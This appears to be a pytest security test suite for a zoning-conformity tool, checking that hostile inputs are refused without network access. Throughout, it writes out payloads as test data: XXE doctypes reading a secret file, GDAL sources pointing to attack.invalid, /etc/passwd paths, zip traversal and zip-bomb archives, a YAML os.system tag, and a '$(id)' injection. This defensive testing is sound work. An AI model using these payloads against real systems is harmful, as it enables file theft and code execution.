"""Files that would have the program open, fetch, run or leave something: they are refused, or read as what they are."""

from __future__ import annotations

import os
import shutil
import socket
import zipfile
from pathlib import Path
from typing import Any, NoReturn

import pytest
from faulty import LAYER, Bench, box, reservoirs, zoning

from conformity import api, yamltext
from conformity.api import packs
from conformity.errors import ConformityError, InputError, RulesError, UsageError

pytestmark = pytest.mark.fault

HOST = "http://attack.invalid"
SECRET = "secret-of-this-machine"
DESCRIPTIONS = {
    "vrt": "<OGRVRTDataSource><OGRVRTLayer name='a'><SrcDataSource>{path}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>",
    "wfs": "<OGRWFSDataSource><URL>http://attack.invalid/wfs</URL></OGRWFSDataSource>",
    "wms": "<GDAL_WMS><Service name='WMS'><ServerUrl>http://attack.invalid/</ServerUrl></Service></GDAL_WMS>",
    "pg": "PG:host=attack.invalid dbname=x",
    "vsi": "/vsicurl/http://attack.invalid/x.shp",
    "wfs-prefix": "WFS:http://attack.invalid/wfs",
    "esri": '{{"url": "http://attack.invalid/arcgis", "type": "ESRI"}}',
    "html": "<!DOCTYPE html><html><body>attack</body></html>",
    "sqlite": "ATTACH DATABASE '{path}' AS x;",
}


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Any connection or look-up of a name fails, and is noted."""
    tried: list[str] = []

    def refuse(*words: Any, **_: Any) -> NoReturn:
        tried.append(repr(words[-1]))
        raise OSError("no network in this test")

    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, refuse)
    for name in ("create_connection", "getaddrinfo", "gethostbyname"):
        monkeypatch.setattr(socket, name, refuse)
    # what a library of C would ask goes to a closed door
    for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "GDAL_HTTP_PROXY"):
        monkeypatch.setenv(name, "http://127.0.0.1:9")
    return tried


# ------------------------------------------------------------------------------------------------- what a file is


@pytest.mark.parametrize("name", ["plan.gml", "ZONE_URBA.shp", "plan.geojson", "plan.gpkg"])
@pytest.mark.parametrize("kind", sorted(DESCRIPTIONS))
def test_attack_a_description_under_a_trusted_name(tmp_path: Path, no_network: list[str], kind: str, name: str) -> None:
    bench = Bench(tmp_path)
    secret = tmp_path / "secret.geojson"
    bench.store(zoning(), secret)
    shutil.rmtree(bench.plan)
    bench.plan.mkdir()
    (bench.plan / name).write_text(DESCRIPTIONS[kind].format(path=secret), encoding="utf-8")
    if name.endswith(".shp"):
        for ending in (".shx", ".dbf"):
            (bench.plan / name).with_suffix(ending).write_text(DESCRIPTIONS[kind].format(path=secret), encoding="utf-8")
    for lang in ("fr", "en"):
        done = bench.check(plan=bench.plan / name, lang=lang)
        assert done.exit_code == 3, (done.stdout, done.stderr)
        assert name in done.stderr
        assert not done.out.exists()
        assert done.stdout == ""
    assert no_network == []


@pytest.mark.parametrize("given", ["PG:host=attack.invalid", "WFS:" + HOST, "/vsicurl/" + HOST + "/x.shp", HOST + "/x.gpkg",
                                   "/vsizip//vsicurl/" + HOST + "/x.zip", "GPKG:/etc/passwd:x", "vrt://x"])  # fmt: skip
def test_attack_a_connection_as_a_path(tmp_path: Path, no_network: list[str], given: str) -> None:
    bench = Bench(tmp_path)
    for plan, network in ((given, None), (None, given)):
        done = bench.check(plan=plan, network=network)
        assert done.exit_code == 3, (done.stdout, done.stderr)
        assert not done.out.exists()
    assert no_network == []


# ------------------------------------------------------------------------------------------------- network


GML = """<?xml version="1.0" encoding="UTF-8"?>
{doctype}<wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs" xmlns:gml="http://www.opengis.net/gml"
 xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:q="http://attack.invalid/q"
 xsi:schemaLocation="http://attack.invalid/q http://attack.invalid/q.xsd http://www.opengis.net/wfs http://attack.invalid/wfs.xsd">
<gml:boundedBy xlink:href="http://attack.invalid/box"/>
{members}</wfs:FeatureCollection>
"""
MEMBER = """<gml:featureMember><q:ZONE_URBA gml:id="z.{n}"><q:LIBELLE>{label}</q:LIBELLE><q:TYPEZONE>{type}</q:TYPEZONE>
<q:msGeometry><gml:Polygon srsName="EPSG:2154"><gml:outerBoundaryIs><gml:LinearRing><gml:coordinates>{ring}</gml:coordinates>
</gml:LinearRing></gml:outerBoundaryIs></gml:Polygon></q:msGeometry></q:ZONE_URBA></gml:featureMember>
"""


def _gml(path: Path, doctype: str = "", label: str = "UB") -> Path:
    members = []
    for n, (zone_label, kind) in enumerate(((label, "U"), ("1AU", "AUc"), ("A", "A"), ("N", "N"))):
        ring = " ".join(f"{x},{y}" for x, y in box(200 * n, 0, 200 * (n + 1), 200).exterior.coords)
        members.append(MEMBER.format(n=n, label=zone_label, type=kind, ring=ring))
    path.write_text(GML.format(doctype=doctype, members="".join(members)), encoding="utf-8")
    return path


def test_attack_schema_and_links_of_gml_are_not_fetched(tmp_path: Path, no_network: list[str]) -> None:
    bench = Bench(tmp_path)
    done = bench.check(plan=_gml(tmp_path / "plan.gml"))
    assert done.exit_code in (0, 1), done.stderr
    assert sorted(zone["label"] for zone in done.report["zones"]) == ["1AU", "A", "N", "UB"]
    assert no_network == []


@pytest.mark.parametrize("doctype", [
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file://{path}'>]>\n",
    "<!DOCTYPE x SYSTEM 'http://attack.invalid/x.dtd'>\n",
    "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY e '&b;&b;&b;&b;&b;&b;'>]>\n",
    "<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://attack.invalid/p'> %p;]>\n",
    "<!-- " + "x" * 70_000 + " --><!DOCTYPE x [<!ENTITY e 'y'>]>\n",
])  # fmt: skip
def test_attack_a_doctype_is_refused(tmp_path: Path, no_network: list[str], doctype: str) -> None:
    bench = Bench(tmp_path)
    (tmp_path / "secret.txt").write_text(SECRET, encoding="utf-8")
    path = _gml(tmp_path / "plan.gml", doctype.replace("{path}", str(tmp_path / "secret.txt")), "&e;")
    for lang in ("fr", "en"):
        done = bench.check(plan=path, lang=lang)
        assert done.exit_code == 3, done.stdout
        assert SECRET not in done.stderr
        assert "plan.gml" in done.stderr
        assert not done.out.exists()
    assert no_network == []


def test_attack_links_of_geojson_and_prj_are_not_followed(tmp_path: Path, no_network: list[str]) -> None:
    bench = Bench(tmp_path)
    plan = tmp_path / "plan.geojson"
    bench.store(zoning(), plan)
    text = plan.read_text(encoding="utf-8")
    start = text.index('"crs"')
    end = text.index("} }", start) + 3
    link = '"crs": { "type": "link", "properties": { "href": "http://attack.invalid/crs", "type": "proj4" } }'
    plan.write_text(text[:start] + link + text[end:], encoding="utf-8")
    done = bench.check(plan=plan)
    assert done.exit_code in (0, 1, 3), done.stderr
    bench.zones.with_suffix(".prj").write_text(HOST + "/2154.prj", encoding="utf-8")
    done = bench.check()
    assert done.exit_code == 3
    assert bench.zones.name.removesuffix(".shp") in done.stderr
    assert no_network == []


def test_attack_companions_are_not_parsed(tmp_path: Path, no_network: list[str]) -> None:
    bench = Bench(tmp_path)
    sound = bench.check().report["findings"]
    bomb = "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://attack.invalid/e'>]><x>&e;</x>"
    for ending in (".qml", ".shp.xml", ".qmd", ".sld", ".qpj"):
        (bench.plan / f"{LAYER}{ending}").write_text(bomb, encoding="utf-8")
    done = bench.check()
    assert done.report["findings"] == sound
    assert no_network == []


def test_attack_no_verb_asks_the_network(tmp_path: Path, no_network: list[str]) -> None:
    bench = Bench(tmp_path)
    one = bench.check(formats="md,json,xlsx,html")
    two = bench.check()
    assert bench.run("inspect", bench.plan, bench.network).exit_code == 0
    assert bench.run("compare", one.out, two.out, "--out", tmp_path / "comparison").exit_code == 0
    assert bench.run("init", tmp_path, answers="\n" * 40).exit_code in (0, 2, 3)
    assert bench.run("rules", "list").exit_code == 0
    assert no_network == []


# ------------------------------------------------------------------------------------------------- archives


@pytest.mark.parametrize("name", ["../out.shp", "/etc/out.shp", "a/../../out.shp", "..\\out.shp", "C:\\out.shp"])
def test_attack_an_archive_does_not_leave_its_place(tmp_path: Path, name: str) -> None:
    bench = Bench(tmp_path)
    archive = tmp_path / "plan.zip"
    with zipfile.ZipFile(archive, "w") as packed:
        for file in sorted(bench.plan.iterdir()):
            packed.write(file, file.name)
        packed.writestr(name, b"x")
    before = sorted(str(p) for p in tmp_path.rglob("*"))
    done = bench.check(plan=archive)
    assert done.exit_code == 3, done.stdout
    assert "plan.zip" in done.stderr
    assert sorted(str(p) for p in tmp_path.rglob("*")) == before


def test_attack_an_archive_that_swells_is_refused(tmp_path: Path) -> None:
    bench = Bench(tmp_path)
    archive = tmp_path / "plan.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as packed:
        for file in sorted(bench.plan.iterdir()):
            packed.write(file, file.name)
        packed.writestr("grand.dbf", b"\0" * 300_000_000)
    assert archive.stat().st_size < 1_000_000
    done = bench.check(plan=archive)
    assert done.exit_code == 3, done.stdout
    assert "ARC-" in done.stderr
    assert not done.out.exists()


# ------------------------------------------------------------------------------------------------- rule packs


HEAD = 'schema: 1\npack: essai\nversion: "1.0.0"\ntitle: {fr: Essai, en: Trial}\n'


def _coded(text: str) -> set[str]:
    with pytest.raises(RulesError) as caught:
        packs_load(text)
    return {problem.code for problem in caught.value.problems}


def packs_load(text: str) -> object:
    from conformity.rulebook.load import load

    def none(name: str) -> NoReturn:
        raise UsageError("CLI-020", name=name, near="")

    return load(text, "essai.yaml", none)


@pytest.mark.parametrize(("text", "code"), [
    (HEAD + "rules: &a []\n", "RUL-005"),
    (HEAD + "a: &a [x]\nb: *a\nrules: []\n", "RUL-005"),
    (HEAD + "<<: {a: b}\nrules: []\n", "RUL-005"),
    (HEAD + "rules: !!python/object/apply:os.system ['true']\n", "RUL-006"),
    (HEAD + "rules: " + "[" * 40 + "]" * 40 + "\n", "RUL-007"),
    (HEAD + "rules: [" + "a," * 100_001 + "]\n", "RUL-007"),
    (HEAD + "# " + "x" * 1_000_001, "RUL-009"),
    (HEAD + "rules: []\n---\nrules: []\n", "RUL-004"),
])  # fmt: skip
def test_attack_a_pack_of_yaml_tricks(text: str, code: str) -> None:
    assert code in _coded(text)


@pytest.mark.parametrize(
    "name", ["../ailleurs", "/etc/ailleurs", "a/b", "..", "~/x", "x\\y", "ailleurs.yaml", "C:x", "%41", "a\x00b"]
)
def test_attack_extends_does_not_leave_its_folder(tmp_path: Path, name: str) -> None:
    (tmp_path / "ailleurs.yaml").write_text(HEAD.replace("essai", "ailleurs") + "rules: []\n", encoding="utf-8")
    home = tmp_path / "packs"
    home.mkdir()
    quoted = name.replace("\x00", "\\0")
    (home / "essai.yaml").write_text(
        f'{HEAD}extends: "{quoted}"\nrules: []\n'.replace("\\y", "\\\\y"), encoding="utf-8"
    )
    with pytest.raises(ConformityError) as caught:
        packs.rulebook(home / "essai.yaml")
    assert caught.value.exit_code == 2
    assert "essai.yaml" in caught.value.text("fr")


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no symbolic links here")
def test_attack_extends_follows_no_link_out_of_its_folder(tmp_path: Path) -> None:
    outside = tmp_path / "ailleurs.yaml"
    outside.write_text(HEAD.replace("essai", "parent") + "rules: []\n", encoding="utf-8")
    home = tmp_path / "packs"
    home.mkdir()
    (home / "parent.yaml").symlink_to(outside)
    (home / "essai.yaml").write_text(f"{HEAD}extends: parent\nrules: []\n", encoding="utf-8")
    with pytest.raises(UsageError) as caught:
        packs.rulebook(home / "essai.yaml")
    assert caught.value.code == "CLI-020"
    (home / "parent.yaml").unlink()
    shutil.copy(outside, home / "parent.yaml")
    assert packs.rulebook(home / "essai.yaml").chain == ("essai", "parent")


def test_attack_a_tree_is_bounded_before_it_is_built() -> None:
    with pytest.raises(RulesError) as caught:
        yamltext.load(b"a: " + b"x" * 1_000_001, "grand.yaml")
    assert [problem.code for problem in caught.value.problems] == ["RUL-009"]


# ------------------------------------------------------------------------------------------------- texts as formats


def test_attack_attributes_are_no_format_and_no_path(tmp_path: Path) -> None:
    plan, network = zoning(), reservoirs()
    nasty = "{zone.__class__.__mro__} {0} %s %(x)s ../../etc/passwd"
    plan["LIBELLE"] = [f"{label} {nasty}" for label in plan["LIBELLE"]]
    plan["INSEE"] = ["../../59"] * 4
    network["NOM"] = [nasty]
    network["ID"] = ["/etc/passwd"]
    network.attrs["layer"] = "reservoirs_a_preserver"
    report = api.check(plan, network=[network], date="2025-06-01")
    assert set(report.zones["label"]) == set(plan["LIBELLE"])
    out = tmp_path / "home" / "out"
    out.parent.mkdir()
    paths = report.write(out, formats=api.FORMATS)
    assert {path.parent for path in paths} == {out}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["home"]
    text = (out / "report.json").read_text(encoding="utf-8")
    assert nasty in text
    assert "<class" not in text


def test_attack_unreadable_names_are_input_errors() -> None:
    for given in ("a\x00b.shp", "\ud800.shp", "x" * 5_000):
        with pytest.raises(InputError):
            api.check(given, network=[given], date="2025-06-01")


@pytest.mark.parametrize("option", ["--rules", "--profile", "--territory", "--waivers", "--resume"])
@pytest.mark.parametrize("name", ["x" * 5_000, "a/" * 3_000 + "x", "{0} %s $(id)"])
def test_attack_a_name_that_no_system_holds(tmp_path: Path, option: str, name: str) -> None:
    bench = Bench(tmp_path)
    done = bench.check(option, name)
    assert done.exit_code in (2, 3, 4), done.stderr
    assert not done.out.exists()
